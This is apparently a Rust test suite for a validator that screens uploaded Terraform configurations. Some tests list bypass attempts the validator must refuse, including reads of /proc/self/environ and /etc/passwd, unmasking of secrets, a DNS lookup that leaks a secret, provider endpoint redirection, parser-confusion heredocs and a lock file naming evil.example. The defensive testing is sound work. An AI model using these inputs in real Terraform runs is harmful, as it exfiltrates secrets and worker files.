//! The rows of the catalogue of bypasses that an upload can try, D5 to D10, C9 and C10: what each
//! row is about is refused, and what looks like it and is harmless passes.

use super::*;

/// Judges one file beside a few others that its rules may look at.
fn found(contract: &Contract, name: &str, source: &str) -> Vec<ReasonCode> {
    let readable = readable(contract);
    let uploaded = files(&[
        (name, source),
        ("mod/main.tf", ""),
        ("mod/a.txt", "text"),
        ("lambda/main.py", ""),
    ]);
    let upload = inspect_upload(&uploaded, &Limits::default()).unwrap();
    judge_configuration(contract, &upload, &readable)
        .into_iter()
        .map(|refusal| refusal.code)
        .collect()
}

/// What upstream would say: `ws-net` is acme/network now, and ws-other is not in any contract.
fn readable(contract: &Contract) -> ReadableStates {
    let found = [
        ("ws-net", "acme", "network"),
        ("ws-other", "acme", "payments"),
    ]
    .map(|(id, organization, name)| {
        (
            WorkspaceId::new(id).unwrap(),
            organization.to_owned(),
            name.to_owned(),
        )
    });
    ReadableStates::new(contract, "app.terraform.io", found)
}

/// Each source is refused with the code and, after `passes`, each other one is not refused.
fn row(contract: &Contract, code: ReasonCode, refused: &[&str], passes: &[&str]) {
    for source in refused {
        let codes = found(contract, "main.tf", source);
        assert!(codes.contains(&code), "{source}: {codes:?}");
    }
    for source in passes {
        assert_eq!(found(contract, "main.tf", source), [], "{source}");
    }
}

#[test]
fn d5_what_unmasks_secrets() {
    row(
        &contract(""),
        ReasonCode::ConfigurationFunction,
        &[
            "output \"x\" {\n value = nonsensitive(var.x)\n}",
            "output \"x\" {\n value = [for v in var.x : nonsensitive(v)]\n}",
            "output \"x\" {\n value = core::nonsensitive(var.x)\n}",
            "output \"x\" {\n value = \"${{ a = nonsensitive(var.x) }.a}\"\n}",
            "check \"x\" {\n assert {\n condition = nonsensitive(var.x) == 1\n error_message = \"\"\n }\n}",
        ],
        &["output \"x\" {\n value = sensitive(var.x)\n sensitive = true\n}"],
    );
    row(
        &contract(""),
        ReasonCode::ConfigurationProvisioner,
        &[
            "resource \"terraform_data\" \"x\" {\n provisioner \"local-exec\" {\n command = \"echo $TOKEN\"\n }\n}",
            "resource \"terraform_data\" \"x\" {\n dynamic \"provisioner\" {\n for_each = [1]\n content {}\n }\n}",
        ],
        &["resource \"terraform_data\" \"x\" {\n input = 1\n}"],
    );
}

#[test]
fn d6_what_reads_files_of_the_worker() {
    row(
        &contract(""),
        ReasonCode::ConfigurationFunction,
        &[
            "locals {\n a = file(\"/proc/self/environ\")\n}",
            "locals {\n a = filebase64(\"/proc/self/environ\")\n}",
            "locals {\n a = fileexists(\"mod/../../x\")\n}",
            "locals {\n a = fileset(\"/\", \"*\")\n}",
            "locals {\n a = templatefile(\"/etc/passwd\", {})\n}",
            "locals {\n a = file(\"${path.module}/${var.x}\")\n}",
            "locals {\n a = file(join(\"\", [\"/\", \"etc/passwd\"]))\n}",
            "locals {\n a = { (file(\"/x\")) = 1 }\n}",
            // A local name may hide another provider behind Terraform's own.
            "terraform {\n required_providers {\n terraform = { source = \"hashicorp/local\" }\n }\n}\nlocals {\n a = provider::terraform::direxists(\"/\")\n}",
        ],
        &[
            "locals {\n a = file(\"mod/a.txt\")\n}",
            "locals {\n a = filesha256(\"${path.module}/mod/a.txt\")\n}",
            "locals {\n a = provider::terraform::encode_tfvars({})\n}",
        ],
    );
    // An archive made during the plan could carry a file of the worker into the upload.
    row(
        &contract(""),
        ReasonCode::ConfigurationDataSource,
        &[
            "data \"archive_file\" \"x\" {\n type = \"zip\"\n source_file = \"/proc/self/environ\"\n output_path = \"x.zip\"\n}",
            "data \"archive_file\" \"x\" {\n type = \"zip\"\n source_dir = var.x\n output_path = \"x.zip\"\n}",
            "data \"archive_file\" \"x\" {\n type = \"zip\"\n source_dir = \"lambda\"\n output_path = \"/root/.terraformrc\"\n}",
            "resource \"archive_file\" \"x\" {\n type = \"zip\"\n source_dir = \"../..\"\n}",
        ],
        &[
            "data \"archive_file\" \"x\" {\n type = \"zip\"\n source_dir = \"${path.module}/lambda\"\n output_path = \"${path.module}/x.zip\"\n}",
        ],
    );
}

/// Our parser and Terraform's end a heredoc at different lines: between them, text would be code.
#[test]
fn d6_what_hides_in_heredocs() {
    row(
        &contract(""),
        ReasonCode::ConfigurationSyntax,
        &[
            "locals {\n a = <<EOT\nEOT\n b = file(\"/x\")\n c = <<EOT\n\nEOT\n}",
            "locals {\n a = <<-EOT\n  EOT \n b = file(\"/x\")\n c = <<EOT\n\nEOT\n}",
            "locals {\n a = <<EOT\nx\n\u{a0}EOT\n b = file(\"/x\")\n c = <<EOT\n\nEOT\n}",
            "locals {\n a = <<EOT\nx\n\u{c}EOT\n b = file(\"/x\")\n c = <<EOT\n\nEOT\n}",
            "locals {\n a = <<EOT\nx\nEOT /* ${file(\"/x\")}\nEOT\n# */\n}",
        ],
        &[
            "locals {\n a = <<EOT\nx EOT\nEOTX\nEOT\n}",
            "locals {\n a = [<<-EOT\n    x\n    EOT\n  , <<B\n${upper(\"x\")}\nB\n]\n}",
            "locals {\n a = <<EOT\r\nx\r\nEOT\r\n}",
        ],
    );
}

#[test]
fn d7_what_calls_out_during_a_plan() {
    row(
        &contract(""),
        ReasonCode::ConfigurationDataSource,
        &[
            "data \"terraform_remote_state\" \"x\" {\n backend = \"http\"\n config = { address = \"https://x\" }\n}",
            "data \"http\" \"x\" {\n url = \"https://x\"\n}",
            "data \"\\u0068ttp\" \"x\" {\n url = \"https://x\"\n}",
            "data external x {\n program = [\"id\"]\n}",
            "data \"dns_txt_record_set\" \"x\" {\n host = \"${local.secret}.example\"\n}",
        ],
        &["data \"aws_ami\" \"x\" {\n most_recent = true\n}"],
    );
    let elsewhere = [
        "provider \"aws\" {\n endpoints {\n s3 = \"https://x\"\n }\n}",
        "provider \"aws\" {\n endpoints = [{ s3 = \"https://x\" }]\n}",
        "provider \"aws\" {\n dynamic \"endpoints\" {\n for_each = [1]\n content {\n s3 = \"https://x\"\n }\n }\n}",
        "provider \"aws\" {\n http_proxy = \"http://x\"\n}",
        "provider \"aws\" {\n ec2_metadata_service_endpoint = \"http://x\"\n}",
        "provider \"aws\" {\n shared_config_files = [\"${path.module}/aws.ini\"]\n}",
        "provider \"google\" {\n compute_custom_endpoint = \"https://x\"\n}",
        "provider \"google\" {\n universe_domain = \"x.example\"\n}",
        "provider \"azurerm\" {\n features {}\n metadata_host = \"x\"\n}",
        "provider \"kubernetes\" {\n config_path = \"${path.module}/kubeconfig\"\n}",
        "provider \"helm\" {\n kubernetes = { exec = { command = \"sh\" } }\n}",
        "provider \"helm\" {\n kubernetes = local.cluster\n}",
        "provider \"helm\" {\n kubernetes = { (var.x) = 1 }\n}",
    ];
    let address = [
        "provider \"vault\" {\n address = \"https://x\"\n}",
        "provider \"grafana\" {\n url = \"https://x\"\n}",
        "provider \"github\" {\n base_url = \"https://x\"\n}",
        "provider \"tfe\" {\n hostname = \"x\"\n}",
    ];
    let plain = [
        "provider \"aws\" {\n region = \"eu-central-1\"\n use_fips_endpoint = true\n default_tags {\n tags = { (var.k) = \"v\" }\n }\n}",
        "provider \"azurerm\" {\n features {\n key_vault {\n purge_soft_delete_on_destroy = true\n }\n }\n}",
    ];
    let provider = ReasonCode::ConfigurationProvider;
    row(
        &contract(""),
        provider,
        &[&elsewhere[..], &address].concat(),
        &plain,
    );
    // Whoever names a provider knows that it has an address, but not that it has another.
    let named = contract(
        r#","configuration":{"providers":["aws","google","azurerm","kubernetes","helm","vault","grafana","github","tfe"]}"#,
    );
    row(
        &named,
        provider,
        &elsewhere,
        &[&plain[..], &address[..2]].concat(),
    );
}

#[test]
fn d8_what_brings_programs_or_links() {
    let programs = ReasonCode::ConfigurationProviderBinary;
    for (path, content, expected) in [
        (
            "terraform.d/plugins/registry.terraform.io/a/b/1.0.0/linux_amd64/terraform-provider-b",
            "",
            Some(programs),
        ),
        ("x/.Terraform/providers/a", "", Some(programs)),
        (".terraform.d/plugins/x", "", Some(programs)),
        ("tool", "\u{7f}ELF", Some(programs)),
        ("terraform.rc", "", Some(programs)),
        ("tool.sh", "#!/bin/sh", None),
        (
            ".terraform.lock.hcl",
            "provider \"registry.terraform.io/hashicorp/aws\" {\n  version = \"5.100.0\"\n  constraints = \"~> 5.0\"\n  hashes = [\n    \"h1:x\",\n  ]\n}\n",
            None,
        ),
        (
            ".terraform.lock.hcl",
            "provider \"evil.example/hashicorp/aws\" {\n  version = \"5.100.0\"\n}\n",
            Some(ReasonCode::ConfigurationProvider),
        ),
        (
            "stacks/a/.terraform.lock.hcl",
            "provider \"aws\" {\n  version = \"5.100.0\"\n}\n",
            Some(ReasonCode::ConfigurationProvider),
        ),
        (
            ".terraform.lock.hcl",
            "provider \"registry.terraform.io/hashicorp/aws\" {\n  version = file(\"/x\")\n}\n",
            Some(ReasonCode::ConfigurationSyntax),
        ),
        (
            ".terraform.lock.hcl",
            "module \"x\" {\n}\n",
            Some(ReasonCode::ConfigurationSyntax),
        ),
    ] {
        let found = judge(&contract(""), &[("main.tf", ""), (path, content)]);
        assert_eq!(
            found.first().map(|r| r.code),
            expected,
            "{path} {content}: {found:?}"
        );
    }
    let google = contract(r#","configuration":{"providers":["hashicorp/google"]}"#);
    let lock = "provider \"registry.terraform.io/hashicorp/aws\" {\n}\n";
    let found = judge(&google, &[("main.tf", ""), (".terraform.lock.hcl", lock)]);
    assert_eq!(found[0].code, ReasonCode::ConfigurationProvider);
}

#[test]
fn d9_every_syntax_and_block_type() {
    let row_json = |source: &str| found(&contract(""), "main.tf.json", source);
    for (source, code) in [
        (
            r#"{"provider":{"aws":{"endpoints":{"s3":"https://x"}}}}"#,
            ReasonCode::ConfigurationProvider,
        ),
        (
            r#"{"provider":{"aws":[{"region":"a"},{"alias":"b","endpoints":[{"s3":"https://x"}]}]}}"#,
            ReasonCode::ConfigurationProvider,
        ),
        (
            r#"{"provider":{"aws":{"dynamic":{"endpoints":{"for_each":[1],"content":{}}}}}}"#,
            ReasonCode::ConfigurationProvider,
        ),
        (
            r#"{"provider":{"helm":{"kubernetes":{"exec":{"command":"sh"}}}}}"#,
            ReasonCode::ConfigurationProvider,
        ),
        (
            r#"{"action":{"aws_lambda_invoke":{"x":{}}}}"#,
            ReasonCode::ConfigurationSyntax,
        ),
        (
            r#"{"resource":{"terraform_data":{"x":{"lifecycle":{"action_trigger":{"events":["after_create"]}}}}}}"#,
            ReasonCode::ConfigurationBlock,
        ),
        (
            r#"{"data":{"archive_file":{"x":{"source_file":"/proc/self/environ"}}}}"#,
            ReasonCode::ConfigurationDataSource,
        ),
        (
            r#"{"ephemeral":{"external":{"x":{}}}}"#,
            ReasonCode::ConfigurationDataSource,
        ),
        (
            r#"{"locals":{"a":"${nonsensitive(var.x)}"}}"#,
            ReasonCode::ConfigurationFunction,
        ),
        (
            r#"{"locals":{"a":{"${ uuid() }":"${file(\"/x\")}","${uuid()}":1}}}"#,
            ReasonCode::ConfigurationSyntax,
        ),
        (
            r#"{"locals":{"a":"${<<EOT\nx\nEOT\n}"}}"#,
            ReasonCode::ConfigurationSyntax,
        ),
        (
            r#"{"module":{"m":{"source":"acme/vpc/aws","version":"~> 1.0"}}}"#,
            ReasonCode::ConfigurationModuleSource,
        ),
        (
            r#"{"terraform":{"cloud":{"organization":"acme","token":"x"}}}"#,
            ReasonCode::ConfigurationBackend,
        ),
    ] {
        let codes = row_json(source);
        assert!(codes.contains(&code), "{source}: {codes:?}");
    }
    for source in [
        r#"{"provider":{"aws":{"region":"a"}},"resource":{"aws_x":{"x":{"lifecycle":{"prevent_destroy":true,"precondition":{"condition":"${true}","error_message":"x"}}}}}}"#,
        r#"{"module":{"m":{"source":"acme/vpc/aws","version":"1.2.3"}}}"#,
    ] {
        assert_eq!(row_json(source), [], "{source}");
    }
    row(
        &contract(""),
        ReasonCode::ConfigurationBlock,
        &[
            "action \"aws_lambda_invoke\" \"x\" {\n}",
            "list \"aws_instance\" \"x\" {\n}",
            "resource \"terraform_data\" \"x\" {\n lifecycle {\n action_trigger {\n events = [after_create]\n }\n }\n}",
            "check \"x\" {\n made_up {\n }\n}",
            "terraform {\n provider_meta \"x\" {\n }\n}",
            "store \"x\" \"y\" {\n}",
        ],
        &[
            "removed {\n from = a.b\n lifecycle {\n destroy = false\n }\n}",
            "resource \"terraform_data\" \"x\" {\n lifecycle {\n postcondition {\n condition = true\n error_message = \"x\"\n }\n }\n}",
        ],
    );
    for path in [
        "x.tofu",
        "x.tfquery.hcl",
        "x.tfstack.hcl",
        "x.tfdeploy.hcl",
        "a/x.tofu.json",
        "X.tf.JSON",
    ] {
        let found = judge(&contract(""), &[("main.tf", ""), (path, "")]);
        assert_eq!(
            found.first().map(|r| r.code),
            Some(ReasonCode::ConfigurationFileType),
            "{path}"
        );
    }
    // Tests name modules that `init` would fetch: no plan needs them, so they stay behind.
    let tests = "run \"x\" {\n module {\n source = \"git::https://x\"\n }\n}\n";
    let uploaded = files(&[
        ("main.tf", ""),
        ("tests/a.tftest.hcl", tests),
        ("a.tftest.json", "{}"),
    ]);
    let upload = inspect_upload(&uploaded, &Limits::default()).unwrap();
    let paths: Vec<_> = upload.files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["main.tf"]);
}

/// An override takes the place of what it names, as Terraform merges it.
#[test]
fn d9_overrides_are_merged() {
    let contract = contract(r#","configuration":{"remote_state_workspaces":["ws-net"]}"#);
    let module = |version: &str| {
        format!("module \"a\" {{\n source = \"acme/vpc/aws\"\n version = \"{version}\"\n}}\n")
    };
    let state = |name: &str| {
        format!(
            "data \"terraform_remote_state\" \"x\" {{\n backend = \"remote\"\n config = {{ organization = \"acme\", workspaces = {{ name = \"{name}\" }} }}\n}}\n"
        )
    };
    let moved = "data \"terraform_remote_state\" \"x\" {\n config = { organization = \"acme\", workspaces = { name = \"payments\" } }\n}\n";
    let pinned = "module \"a\" {\n version = \"2.0.0\"\n}\n";
    for (name, main, other, expected) in [
        ("override.tf", module("1.2.3"), pinned.to_owned(), None),
        ("a_override.tf", module("~> 1.0"), pinned.to_owned(), None),
        (
            "a_override.tf.json",
            module("1.2.3"),
            r#"{"module":{"a":{"version":"~> 2.0"}}}"#.to_owned(),
            Some(ReasonCode::ConfigurationModuleSource),
        ),
        (
            "a_override.tf",
            module("1.2.3"),
            "module \"a\" {\n source = \"git::https://x\"\n}\n".to_owned(),
            Some(ReasonCode::ConfigurationModuleSource),
        ),
        ("override.tf", state("network"), state("network"), None),
        (
            "override.tf",
            state("network"),
            moved.to_owned(),
            Some(ReasonCode::ConfigurationRemoteState),
        ),
        // Not an override: a block of its own, and not a whole one.
        (
            "more.tf",
            module("1.2.3"),
            "module \"b\" {\n version = \"2.0.0\"\n}\n".to_owned(),
            Some(ReasonCode::ConfigurationModuleSource),
        ),
        // In another folder.
        (
            "mod/override.tf",
            module("1.2.3"),
            pinned.to_owned(),
            Some(ReasonCode::ConfigurationModuleSource),
        ),
    ] {
        let uploaded = files(&[("main.tf", &main), (name, &other)]);
        let upload = inspect_upload(&uploaded, &Limits::default()).unwrap();
        let found = judge_configuration(&contract, &upload, &readable(&contract));
        assert_eq!(
            found.first().map(|r| r.code),
            expected,
            "{name} {other}: {found:?}"
        );
    }
}

#[test]
fn d10_modules_from_elsewhere() {
    row(
        &contract(""),
        ReasonCode::ConfigurationModuleSource,
        &[
            "module \"a\" {\n source = \"acme/vpc/aws\"\n version = \">= 1.0.0\"\n}",
            "module \"a\" {\n source = \"app.terraform.io/acme/vpc/aws\"\n version = \"1.0.0\"\n}",
            "module \"a\" {\n source = \"git::ssh://git@x/y.git\"\n}",
            "module \"a\" {\n source = \"https://x/y.zip?archive=zip\"\n}",
            "module \"a\" {\n source = \"/etc\"\n}",
            "module \"a\" {\n source = \"${path.module}/mod\"\n}",
            "module \"a\" {\n source = \"./mod/../../x\"\n}",
        ],
        &[
            "module \"a\" {\n source = \"./mod\"\n}",
            "module \"a\" {\n source = \"acme/vpc/aws//modules/x\"\n version = \"1.0.0\"\n}",
        ],
    );
}

#[test]
fn c9_the_state_of_other_workspaces() {
    let remote = |config: &str| {
        format!(
            "data \"terraform_remote_state\" \"x\" {{\n backend = \"remote\"\n config = {config}\n}}"
        )
    };
    let good = remote("{ organization = \"acme\", workspaces = { name = \"network\" } }");
    let outputs =
        "data \"tfe_outputs\" \"x\" {\n organization = \"acme\"\n workspace = \"network\"\n}";
    // Without workspaces in the contract nobody's state is read, whatever its types say.
    row(
        &contract(
            r#","configuration":{"data_sources":["*","terraform_remote_state","tfe_outputs"]}"#,
        ),
        ReasonCode::ConfigurationDataSource,
        &[&good, outputs],
        &[],
    );
    let listing = contract(r#","configuration":{"remote_state_workspaces":["ws-net"]}"#);
    let refused = [
        remote("{ organization = \"acme\", workspaces = { name = \"payments\" } }"),
        remote("{ organization = \"other\", workspaces = { name = \"network\" } }"),
        remote("{ organization = \"acme\", workspaces = { prefix = \"net\" } }"),
        remote("{ organization = \"acme\", workspaces = { name = var.x } }"),
        remote("{ organization = \"acme\", workspaces = { name = \"net${var.x}\" } }"),
        remote("{ organization = \"acme\", workspaces = { name = \"network\" }, token = \"x\" }"),
        remote(
            "{ hostname = \"evil.example\", organization = \"acme\", workspaces = { name = \"network\" } }",
        ),
        remote("merge({}, local.config)"),
        remote(
            "{ organization = \"acme\", \"organization\" = \"other\", workspaces = { name = \"network\" } }",
        ),
        good.replace("remote\"\n", "http\"\n"),
        good.replace("\"remote\"\n", "\"remote\"\n workspace = \"payments\"\n"),
        good.replace(" backend", " provider = terraform.x\n backnd"),
        outputs.replace("network", "payments"),
        outputs.replace("\"network\"", "var.x"),
        outputs.replace(" organization = \"acme\"\n", ""),
        "data \"tfe_outputs\" \"x\" {\n}".to_owned(),
        format!(
            "check \"c\" {{\n{}\n}}",
            outputs.replace("network", "payments")
        ),
        outputs
            .replace("data", "ephemeral")
            .replace("network", "payments"),
    ];
    let refused: Vec<&str> = refused.iter().map(String::as_str).collect();
    let at_home = remote(
        "{ hostname = \"app.terraform.io\", organization = \"acme\", workspaces = { name = \"network\" } }",
    );
    let passes = [
        &good,
        outputs,
        &at_home,
        &good.replace("backend", "count = 1\n defaults = {}\n backend"),
    ];
    row(
        &listing,
        ReasonCode::ConfigurationRemoteState,
        &refused,
        &passes,
    );
    let json = r#"{"data":{"terraform_remote_state":{"x":{"backend":"remote","config":{"organization":"acme","workspaces":{"name":"NAME"}}}}}}"#;
    assert_eq!(
        found(&listing, "a.tf.json", &json.replace("NAME", "network")),
        []
    );
    let other = found(&listing, "a.tf.json", &json.replace("NAME", "payments"));
    assert_eq!(other, [ReasonCode::ConfigurationRemoteState]);
    // Types that are listed must list these too.
    let both = contract(
        r#","configuration":{"data_sources":["aws_*"],"remote_state_workspaces":["ws-net"]}"#,
    );
    row(
        &both,
        ReasonCode::ConfigurationDataSource,
        &[&good, outputs],
        &[],
    );
    // Nobody could say which names the ids have: nothing may be read.
    let upload = inspect_upload(&files(&[("main.tf", &good)]), &Limits::default()).unwrap();
    let unresolved = judge_configuration(&listing, &upload, &ReadableStates::none());
    assert_eq!(unresolved[0].code, ReasonCode::ConfigurationRemoteState);
}

#[test]
fn c10_terraform_cloud_as_a_resource() {
    let wide =
        contract(r#","resources":{"allow_types":["*"]},"configuration":{"data_sources":["*"]}"#);
    for contract in [contract(""), wide] {
        row(
            &contract,
            ReasonCode::ConfigurationResourceType,
            &[
                "resource \"tfe_workspace\" \"x\" {\n}",
                "resource \"tfe_team_token\" \"x\" {\n}",
                "resource \"hcp_vault_cluster\" \"x\" {\n}",
                "resource \"terraform_remote_state\" \"x\" {\n}",
            ],
            &["resource \"terraform_data\" \"x\" {\n}"],
        );
        row(
            &contract,
            ReasonCode::ConfigurationDataSource,
            &[
                "data \"tfe_workspace\" \"x\" {\n}",
                "data \"hcp_vault_secrets_app\" \"x\" {\n}",
            ],
            &["data \"aws_ami\" \"x\" {\n}"],
        );
    }
    let named = contract(r#","resources":{"allow_types":["tfe_workspace"]}"#);
    assert_eq!(
        found(&named, "main.tf", "resource \"tfe_workspace\" \"x\" {\n}"),
        []
    );
}
